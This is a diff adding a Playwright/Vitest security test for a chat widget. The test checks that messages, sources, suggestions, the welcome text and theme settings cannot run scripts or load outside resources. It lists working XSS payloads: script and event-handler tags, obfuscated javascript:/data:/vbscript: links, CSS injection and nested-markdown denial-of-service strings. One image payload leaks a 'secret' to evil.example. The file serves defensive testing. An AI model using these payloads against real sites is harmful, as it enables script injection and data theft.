@@ -1,0 +1,127 @@
+/** Content that tries to run in the page: nothing of it does, wherever it comes from. */
+import { existsSync, readFileSync } from 'node:fs';
+import type { Page } from 'playwright-core';
+import { describe, expect, it } from 'vitest';
+import { chromiumPath } from '../support/chromium.ts';
+import { ScriptedModel } from '../support/http/scripted-models.ts';
+import { serviceOfFile } from '../support/http/service.ts';
+import { browserOfFile, ROOT } from '../support/widget/browser.ts';
+import { fakeApi } from '../support/widget/fake-api.ts';
+import { newShop, visit } from '../support/widget/shop.ts';
+
+const CORPUS = new URL('../../../shared/evaluation/xss/dompurify-expect.json', import.meta.url);
+const OWN = [
+  '<img src=x onerror=alert(1)>',
+  '<script>alert(1)</script>',
+  '<svg/onload=alert(1)>',
+  '[a](javascript:alert(1))',
+  '[a](JaVaScRiPt&colon;alert(1))',
+  '[a](java&#10;script:alert(1))',
+  '[a](&#x6a;avascript:alert(1))',
+  '[a](data:text/html,<script>alert(1)</script>)',
+  '[a](vbscript:x "t")',
+  '[a](//evil.example)',
+  '[a](https://bank.example@evil.example/)',
+  '![x](https://evil.example/p.png?q=secret)',
+  '![x](data:image/svg+xml,<svg/onload=alert(1)>)',
+  '<javascript:alert(1)>',
+  '[a]: javascript:alert(1)\n\n[a]',
+  '```\n</code></pre><img src=x onerror=alert(1)>\n```',
+  '| <b onmouseover=alert(1)>x</b> |\n|---|\n| <iframe src=javascript:alert(1)> |',
+  `${'> '.repeat(3000)}deep`,
+  `${'['.repeat(2000)}x`,
+  '**'.repeat(5000),
+];
+const payloads = [
+  ...OWN,
+  ...(existsSync(CORPUS)
+    ? (JSON.parse(readFileSync(CORPUS, 'utf8')) as { payload: string }[]).map(({ payload }) => payload)
+    : []),
+];
+const ALLOWED =
+  /^(?:DIV|SPAN|P|H2|H3|H4|UL|OL|LI|STRONG|EM|DEL|CODE|PRE|BR|HR|A|BLOCKQUOTE|TABLE|THEAD|TBODY|TR|TH|TD|B|TIME|BUTTON|SVG|PATH|DETAILS|SUMMARY|I|SECTION|HEADER|FOOTER|FORM|TEXTAREA|LABEL|INPUT)$/i;
+
+/** Elements and attributes of the widget that could run or load something. */
+function suspicious(page: Page): Promise<string[]> {
+  return page.locator(ROOT).evaluate((host, allowed) => {
+    interface Element {
+      tagName: string;
+      attributes: Iterable<{ name: string; value: string }>;
+    }
+    const { shadowRoot } = host as unknown as { shadowRoot: { querySelectorAll(all: string): Iterable<Element> } };
+    const pattern = new RegExp(allowed, 'i');
+    return [...shadowRoot.querySelectorAll('*')].flatMap(({ tagName, attributes }) => [
+      ...(pattern.test(tagName) ? [] : [tagName]),
+      ...[...attributes].flatMap(({ name, value }) => {
+        const isLink = name === 'href' && /^(?:https?|mailto):/.test(value) && !/^https?:\/\/[^/]*@/.test(value);
+        const runs = /^(?:on|src|style|action|formaction|xlink)/i.test(name) && name !== 'style';
+        return runs || (name === 'href' && !isLink) ? [`${tagName} ${name}=${value}`] : [];
+      }),
+    ]);
+  }, ALLOWED.source);
+}
+
+describe.skipIf(chromiumPath === null)('Hostile content', () => {
+  const browser = browserOfFile();
+  const service = serviceOfFile({}, { models: new ScriptedModel().models });
+
+  it('runs nothing and loads nothing in answers, messages of agents, sources, suggestions, welcome and prompts', async () => {
+    const shop = await newShop(service());
+    const message = (content: string, role: string, index: number) => ({
+      messageId: `${role}-${index}`,
+      role,
+      content,
+      sources: [
+        { title: content, url: content, snippet: content },
+        { title: content, url: 'https://example.com/', snippet: '' },
+      ],
+      suggestions: [content, content, content],
+      feedback: null,
+      createdAt: new Date().toISOString(),
+    });
+    const history = payloads.flatMap((content, index) => [
+      message(content, 'user', index),
+      message(content, 'assistant', index),
+      message(content, 'agent', index),
+    ]);
+    const hostile = payloads.slice(0, 10);
+    const visited = await visit(browser(), shop, { html: '<h1>Shop</h1>' });
+    const { page, open, errors, requests } = visited;
+    await fakeApi(page, {
+      config: {
+        name: OWN[0],
+        welcomeMessage: payloads.join('\n\n').slice(0, 30_000),
+        quickPrompts: hostile,
+        primaryColor: 'red;} * { background: url(https://evil.example/a) }',
+        theme: { bg: 'url(https://evil.example/b)', panelBg: '#fff' },
+        avatarUrl: '//evil.example/c.png',
+      },
+      history,
+    });
+    let dialogs = 0;
+    page.on('dialog', (dialog) => {
+      dialogs++;
+      void dialog.dismiss();
+    });
+    await page.evaluate((id) => {
+      localStorage.setItem(`chatledger:${id}`, JSON.stringify({ sessionId: 'hostile', isBegun: true }));
+    }, shop.config.chatbotId);
+    await page.reload();
+    const before = requests.length;
+    await open();
+    const root = page.locator(ROOT);
+    await root
+      .locator('.message.agent')
+      .nth(payloads.length - 1)
+      .waitFor({ timeout: 30_000 });
+    const relations = await root
+      .locator('.message a')
+      .evaluateAll((links) => links.map((link) => link.getAttribute('rel')));
+    expect(new Set(relations)).toEqual(new Set(['noopener noreferrer nofollow']));
+    expect(await suspicious(page)).toEqual([]);
+    expect(dialogs).toBe(0);
+    expect(errors).toEqual([]);
+    const own = new URL(shop.script).origin;
+    expect(requests.slice(before).filter((url) => !url.startsWith(own) && !url.startsWith(visited.site))).toEqual([]);
+  });
+});
